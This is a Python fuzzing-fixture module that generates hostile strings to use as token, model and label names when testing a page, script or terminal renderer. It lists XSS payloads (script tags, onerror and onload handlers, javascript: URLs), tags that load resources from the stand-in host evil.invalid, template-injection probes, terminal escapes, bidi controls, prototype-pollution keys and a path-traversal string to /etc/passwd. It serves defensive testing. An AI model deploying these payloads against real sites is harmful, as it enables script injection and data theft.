"""Words for tokens, models, prompts and labels that are something else to a page, a script, a terminal or a codec."""

from __future__ import annotations

import random

#: Short ones, too: pages cut tokens after 18 letters. What they would do is seen in `window.h`, in the title, in the
#: document's elements, or as a request.
SCRIPTS = [
    "<script>h=1", "<script>h=1</script>", "</script><script>h=1</script>", "</ScRiPt\t><script>h=1//",
    "<svg/onload=h=1>", "<img src=x onerror=h=1>", "<img/src/onerror=h=1>", "<body onload=h=1>", "<b onclick=h=1>x",
    "<iframe src=javascript:parent.h=1>", "<iframe srcdoc='<script>parent.h=1</script>'>",
    "<details open ontoggle=h=1>", "<svg><animate onbegin=h=1 attributeName=x dur=1s>",
    "<math><mtext><style><img src onerror=h=1>", "<a href=javascript:h=1>x</a>", '" onmouseover="h=1',
    "' onfocus='h=1' autofocus='", '"><img src=x onerror=h=1>', "'><svg/onload=h=1>", "`-h=1-`", "';h=1//", '";h=1//',
    "\\';h=1//", '\\";h=1//', '"}]]}</script><svg/onload=h=1>', "</title><script>document.title='h'</script>",
    "</style><script>h=1</script>", "</noscript><img src=x onerror=h=1>", "</textarea><svg/onload=h=1>",
    "<template><script>h=1</script>",
]  # fmt: skip
LOADS = [
    "<base href=//evil.invalid>", "<link rel=stylesheet href=//evil.invalid/a>", "<img src=//evil.invalid/a>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>", "</style><style>*{background:url(//evil.invalid)}",
    "<form action=//evil.invalid><button autofocus>", "<object data=//evil.invalid>", "<video poster=//evil.invalid>",
    "<script src=//evil.invalid></script>", "<svg><use href=//evil.invalid#a>", "@import url(//evil.invalid);",
]  # fmt: skip
MARKUP = [
    "<!--", "-->", "<!--<script>", "]]>", "<![CDATA[", "<?php", "<b>bold</b>", "<br>", "<sup>2</sup>",
    "<extra></extra>", "<a href='x'>y</a>", "<span style='color:red'>", "&lt;b&gt;", "&amp;lt;", "&#60;b&#62;",
    "&quot;", "&", "&nbsp;", "<", ">", "<>", "</", "[bold red]", "[/]", "[/bold]",
    "[link=//evil.invalid]x[/link]", "\\[bold]", ":smile:", "$x^2$", "\\(x\\)", "$\\href{javascript:h=1}{x}$",
    "$title", "${data}", "$$", "$", "{{7*7}}", "{% raw %}", "<%= 7*7 %>", "#{7*7}", "%{x}", "%{customdata[0]}", "%s%n",
    "{0}", "{name}", "%", "#%",
]  # fmt: skip
CODES = [
    "\0", "a\0b", "\x01", "\x07", "\x08\x08", "\x1b[2J", "\x1b]0;h\x07", "\x7f", "\x85", "\x9b31m", "\r", "\n", "\r\n",
    "\t", "\v", "\f", " ", "\xa0", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff", "\u200b", "\u200d", "\u00ad",
    "\u202eevil", "\u202d", "\u2066x", "\u2069", "\u200f", "\u061c", "\U000e0041", "\U0010ffff", "\ud800", "\udfff",
    "\ud83d", "a\udc80b", "\ud800\udc00", "e" + 60 * "\u0301", "\ufdfd", 9 * "👩\u200d👧",
]  # fmt: skip
NAMES = [
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "null", "undefined", "NaN",
    "Infinity", "-0", "true", "1e999", "0x10", "2020-01-01", "12:34", "1,000", "", "'", '"', "\\", "\\\\", "\\u003c",
    "\\n", "../../x", "file:///etc/passwd", "L0.A1", "L0.N3", "target", "x" * 40, "<" * 300, "&" * 300, "y" * 100_000,
    "<b>" * 5_000,
]  # fmt: skip
EVERYTHING = [*SCRIPTS, *LOADS, *MARKUP, *CODES, *NAMES]


def words(count: int, rng: random.Random) -> list[str]:
    """So many hostile words, now and then two of them joined: as a vocabulary, or as names."""
    drawn = [rng.choice(EVERYTHING) + (rng.choice(EVERYTHING) if rng.random() < 0.2 else "") for _ in range(count)]
    rng.shuffle(drawn)
    return drawn
